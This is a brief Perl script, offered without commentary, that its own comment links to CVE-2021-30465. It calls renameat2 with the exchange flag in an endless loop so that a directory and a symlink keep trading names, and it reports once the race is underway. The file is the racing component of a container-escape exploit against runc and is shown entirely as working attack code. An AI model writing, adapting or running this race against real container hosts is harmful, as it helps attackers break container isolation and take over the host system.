#!/usr/bin/perl
# swap NUMBER DIRECTORY LINK: exchanges both names for as long as it runs (CVE-2021-30465); NUMBER is renameat2's.
use strict;
$| = 1;
my ($renameat2, $directory, $link) = @ARGV;
my ($here, $exchange) = (-100, 2);
for (my $count = 0;; $count++) {
	syscall($renameat2 + 0, $here, $directory, $here, $link, $exchange) == 0 or die "renameat2: $!\n";
	print "swapping\n" if $count == 1000;
}
